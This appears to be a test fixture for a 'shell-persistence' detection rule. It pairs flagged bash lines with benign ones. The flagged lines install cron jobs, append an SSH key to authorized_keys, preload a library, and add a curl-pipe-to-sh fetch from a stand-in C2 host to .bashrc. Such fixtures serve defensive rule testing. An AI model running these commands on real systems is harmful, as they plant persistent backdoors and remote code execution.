#!/bin/bash
# ruleid: shell-persistence
(crontab -l; echo "* * * * * /tmp/x") | crontab -
# ruleid: shell-persistence
echo "* * * * * root /tmp/x" > /etc/cron.d/x
# ruleid: shell-persistence
echo "ssh-ed25519 AAAA" >> ~/.ssh/authorized_keys
# ruleid: shell-persistence
echo "(curl -s https://c2.example/x | sh) &" >> ~/.bashrc
# ruleid: shell-persistence
echo /tmp/x.so > /etc/ld.so.preload
# ok: shell-persistence
echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.bashrc
# ok: shell-persistence
crontab -l
# ok: shell-persistence
cat ~/.ssh/authorized_keys
